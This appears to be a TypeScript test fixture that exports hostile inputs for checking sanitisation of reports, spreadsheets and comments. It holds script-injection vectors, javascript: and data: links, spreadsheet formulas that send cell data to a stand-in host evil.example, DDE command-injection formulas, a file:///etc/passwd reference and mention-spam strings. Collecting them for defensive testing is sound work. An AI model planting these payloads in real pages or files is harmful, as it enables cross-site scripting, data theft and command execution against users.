// What somebody hostile writes into a report, a spreadsheet or a comment. Each that runs would call `pwned`.

const SCRIPTS = [
  '<script>pwned(1)</script>',
  '<img src=x onerror=pwned(2)>',
  '<svg onload=pwned(3)>',
  '<svg><script>pwned(4)</script></svg>',
  '<iframe srcdoc="<script>parent.pwned(5)</script>"></iframe>',
  '<body onload=pwned(6)>',
  '<details open ontoggle=pwned(7)>x</details>',
  '<input autofocus onfocus=pwned(8)>',
  '<math><mtext><style><img src=x onerror=pwned(9)></style></mtext></math>',
  '"><script>pwned(10)</script>',
  "'-pwned(11)-'",
  '</textarea><script>pwned(12)</script>',
  '</title><script>pwned(13)</script>',
  '<a href="javascript:pwned(14)">press</a>',
  '<form action="javascript:pwned(15)"><button>x</button></form>',
  '<object data="data:text/html,<script>parent.pwned(16)</script>"></object>',
  '<embed src="javascript:pwned(17)">',
  '<meta http-equiv="refresh" content="0;url=javascript:pwned(18)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/y.css";</style>',
  '<video><source onerror=pwned(22)></video>',
  '{{constructor.constructor("pwned(23)")()}}',
  '$'.concat('{pwned(24)}'),
  '<noscript><p title="</noscript><img src=x onerror=pwned(25)>">',
];
const LINKS = [
  '[press](javascript:pwned(30))',
  '![x](https://evil.example/pixel.png)',
  '[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgzMik8L3NjcmlwdD4=)',
  'https://evil.example/?q=stolen',
  'javascript:pwned(34)',
  'file:///etc/passwd',
  '\\\\evil.example\\share',
  '<https://evil.example>',
];
const MENTIONS = [
  '@everyone',
  '@va-team/leads',
  'octo/repo#1',
  'closes #1',
  'GH-1',
  '<!-- tier3-desk:fake-marker -->',
  '<!channel>',
  '<@U12345>',
];
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"press")',
  "=cmd|'/c calc'!A0",
  "+1+cmd|'/c calc'!A0",
  "-1+cmd|'/c calc'!A0",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  '\t=1+1',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '\r=1+1',
];

export const PAYLOADS = { scripts: SCRIPTS, links: LINKS, mentions: MENTIONS, formulas: FORMULAS } as const;
